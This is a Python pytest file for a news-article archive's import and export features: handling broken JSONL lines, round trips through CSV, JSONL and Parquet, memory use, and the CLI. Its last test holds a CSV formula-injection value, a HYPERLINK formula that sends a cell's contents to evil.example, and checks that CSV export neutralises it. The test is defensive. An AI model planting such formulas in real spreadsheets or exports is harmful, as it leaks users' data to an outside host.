"""Import from JSON Lines (with broken lines) and export round-trips: CSV, JSONL, Parquet."""

from __future__ import annotations

import csv
import json
import tracemalloc
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from archive import Archive
from archive.cli import main
from archive.research.export import export_matches
from archive.research.query import Filters
from db import session_factory
from tests.research_data import ARTICLES, archive_url, write_jsonl


@pytest.fixture
def imported(db_backend: str, tmp_path: Path) -> Any:
    with archive_url(db_backend, tmp_path) as url:
        arc = Archive(url, create=True)
        arc.import_jsonl(write_jsonl(tmp_path / "in.jsonl"))
        yield arc
        arc.close()


def test_import_keeps_good_lines_and_reports_bad_ones(db_url: str, tmp_path: Path) -> None:
    good = ARTICLES["heat"]
    source = tmp_path / "mixed.jsonl"
    lines = [
        json.dumps(good),
        "{not json",
        "[1, 2]",
        json.dumps({"title": "no url", "text": "x"}),
        json.dumps({"url": "ftp://example.com/a", "text": "x"}),
        json.dumps({"url": "https://example.com/no-text", "title": "t"}),
        json.dumps({"url": "https://example.com/bad-date", "text": "x", "published": "soon"}),
        json.dumps({"url": "https://example.com/bad-authors", "text": "x", "authors": [1]}),
        "",  # blank lines are skipped, not errors
        json.dumps(ARTICLES["flood"]),
    ]
    source.write_bytes("\n".join(lines).encode() + b"\n\xff\xfe{}\n")
    arc = Archive(db_url, create=True)
    report = arc.import_jsonl(source)
    assert (report.lines, report.new, report.updated, report.unchanged) == (10, 2, 0, 0)
    reasons = {error.line: error.reason for error in report.errors}
    assert sorted(reasons) == [2, 3, 4, 5, 6, 7, 8, 11]
    assert reasons[2].startswith("not valid JSON")
    assert reasons[3] == "a JSON object was expected, not list"
    assert reasons[4] == reasons[5] == "'url' must be an http(s) URL"
    assert reasons[6] == "'text' is missing or empty"
    assert reasons[7] == "published 'soon' is not an ISO 8601 date"
    assert reasons[8] == "'authors' must be a list of names or one name"
    assert reasons[11] == "the line is not UTF-8 text"
    assert arc.total() == 2
    arc.close()


def test_import_is_idempotent_and_keeps_versions(imported: Archive, tmp_path: Path) -> None:
    again = imported.import_jsonl(write_jsonl(tmp_path / "again.jsonl"))
    assert (again.new, again.updated, again.unchanged) == (0, 0, len(ARTICLES))
    edited = dict(ARTICLES["heat"], text="Temperatures fell again.", title="Heatwave ends")
    report = imported.import_jsonl(write_jsonl(tmp_path / "edit.jsonl", [edited]))
    assert (report.new, report.updated) == (0, 1)
    view = imported.article(ARTICLES["heat"]["url"])
    assert view.title == "Heatwave ends" and view.text == "Temperatures fell again."
    assert [(v.number, v.title) for v in view.versions] == [(1, "Heatwave grips the city")]
    assert imported.search("fell").total == 1 and imported.search("forty").total == 0
    assert imported.total() == len(ARTICLES)


def test_import_reads_news_please_fields_and_keeps_the_rest(db_url: str,
                                                            tmp_path: Path) -> None:
    record = {
        "url": "https://www.example.org/story?b=2&a=1", "title": "Hello",
        "maintext": "Body of the story.", "date_publish": "2024-01-02 03:04:05",
        "authors": "Jo Bloggs", "source_domain": "example.org", "language": "EN",
        "image_url": "https://example.org/i.jpg", "date_download": "2024-01-03 00:00:00",
        "filename": "x.json", "localpath": None,
    }
    arc = Archive(db_url, create=True)
    report = arc.import_jsonl(write_jsonl(tmp_path / "np.jsonl", [record]))
    assert report.new == 1 and not report.errors
    view = arc.article(1)
    assert view.url == "https://www.example.org/story?a=1&b=2"  # normalised like crawls
    assert (view.source, view.text, view.authors) == ("example.org", "Body of the story.",
                                                      ["Jo Bloggs"])
    assert view.published is not None and view.published.isoformat() == "2024-01-02T03:04:05+00:00"
    assert (view.language, view.image) == ("en", "https://example.org/i.jpg")
    assert view.extra == {"date_download": "2024-01-03 00:00:00", "filename": "x.json",
                          "localpath": None}
    arc.close()


def _stored(arc: Archive) -> dict[str, dict[str, Any]]:
    return {view.url: view.to_dict() for view in (arc.article(i) for i in range(1, 7))}


def test_jsonl_round_trip(imported: Archive, tmp_path: Path) -> None:
    out = tmp_path / "all.jsonl"
    assert imported.export(None, "jsonl", out) == len(ARTICLES)
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    stored = _stored(imported)
    for row in rows:
        expected = stored[row["url"]]
        for key, value in row.items():
            assert value == expected[key], key
    assert rows[5]["extra"] == {"section": "weather", "rating": 4}
    assert rows[2]["title"] == "Le café rouvre" and rows[2]["source_name"] == "The Blog"


def test_csv_round_trip_of_a_query(imported: Archive, tmp_path: Path) -> None:
    out = tmp_path / "heat.csv"
    assert imported.export("heatwave", "csv", out, since="2026-03-11") == 1
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 1
    stored = _stored(imported)[rows[0]["url"]]
    assert rows[0]["text"] == stored["text"]  # newlines, <, & survive
    assert rows[0]["published"] == stored["published"] == "2026-03-11T23:30:00+00:00"
    assert json.loads(rows[0]["extra"]) == {"section": "weather", "rating": 4}
    assert rows[0]["authors"] == ""


def test_parquet_round_trip(imported: Archive, tmp_path: Path) -> None:
    out = tmp_path / "all.parquet"
    assert imported.export(None, "parquet", out) == len(ARTICLES)
    table = pq.read_table(out)
    assert table.num_rows == len(ARTICLES)
    stored = _stored(imported)
    for row in table.to_pylist():
        expected = stored[row["url"]]
        assert row["text"] == expected["text"] and row["authors"] == expected["authors"]
        assert (row["published"].isoformat() if row["published"] else None) == \
            expected["published"]
        assert json.loads(row["extra"]) == expected["extra"]


def test_a_failed_export_leaves_no_file(imported: Archive, tmp_path: Path) -> None:
    from archive.exceptions import QueryError

    out = tmp_path / "bad.csv"
    with pytest.raises(QueryError):
        imported.export("(unclosed", "csv", out)
    assert list(tmp_path.glob("bad.csv*")) == []


@pytest.mark.sqlite_only
def test_export_streams_in_flat_memory(tmp_path: Path) -> None:
    # 1,200 articles of 10 kB: 12 MB of text, read 100 at a time
    text = ("word " * 2000).strip()
    write_jsonl(tmp_path / "big.jsonl", [
        {"url": f"https://big.example/{i}", "title": f"Story {i}", "text": f"{text} {i}",
         "published": "2026-01-01"} for i in range(1200)])
    arc = Archive(f"sqlite:///{tmp_path / 'big.db'}", create=True)
    assert arc.import_jsonl(tmp_path / "big.jsonl").new == 1200
    seen: list[int] = []
    tracemalloc.start()
    try:
        with session_factory(arc.engine)() as session:
            count = export_matches(session, None, Filters(), "jsonl",
                                   tmp_path / "big-out.jsonl", on_progress=seen.append,
                                   batch=100)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 1200 and seen[-1] == 1200 and len(seen) >= 2
    assert (tmp_path / "big-out.jsonl").stat().st_size > 12_000_000
    assert peak < 5_000_000, f"export peaked at {peak / 1e6:.1f} MB"
    arc.close()


def test_cli_import_then_export(db_url: str, tmp_path: Path) -> None:
    source = write_jsonl(tmp_path / "in.jsonl", [*ARTICLES.values(), {"url": "nope"}])
    result = CliRunner().invoke(main, ["import", str(source), "--db", db_url])
    assert result.exit_code == 3, result.output  # some lines refused, the others imported
    assert "6 new" in result.output and "1 not imported" in result.output
    assert "line 7: 'url' must be an http(s) URL" in result.output
    out = tmp_path / "out.jsonl"
    result = CliRunner().invoke(main, ["export", "climate", "--format", "jsonl", "--output",
                                       str(out), "--db", db_url])
    assert result.exit_code == 0, result.output
    assert len(out.read_text(encoding="utf-8").splitlines()) == 2
    result = CliRunner().invoke(main, ["export", "--format", "csv", "-o", "-", "--db", db_url])
    assert result.exit_code == 0 and result.output.count("https://") >= 6


def test_no_csv_cell_is_a_live_formula(db_url: str, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    source = write_jsonl(tmp_path / "formulas.jsonl", [
        {"url": "https://x.example/a", "title": formula, "text": "-2+3 otter", "authors":
         ["@admin"], "source": "-dash.example", "published": "2026-01-05"}])
    assert CliRunner().invoke(main, ["import", str(source), "--db", db_url]).exit_code == 0

    def cells(*args: str) -> list[dict[str, str]]:
        result = CliRunner().invoke(main, [*args, "--db", db_url])
        assert result.exit_code == 0, result.output
        return list(csv.DictReader(result.stdout.splitlines()))

    exported, = cells("export", "otter", "--format", "csv", "--output", "-")
    assert exported["title"] == "'" + formula and exported["text"] == "'-2+3 otter"
    assert exported["authors"] == "'@admin" and exported["source"] == "'-dash.example"
    found, = cells("search", "otter", "--format", "csv")
    assert found["title"] == "'" + formula and found["source"] == "'-dash.example"
    counted, = cells("count", "--per", "source", "--format", "csv")
    assert counted == {"period": "2026-01-05", "source": "'-dash.example", "count": "1"}
    # JSON Lines keeps the text as it is
    line = CliRunner().invoke(main, ["export", "--format", "jsonl", "-o", "-", "--db", db_url])
    assert json.loads(line.stdout)["title"] == formula
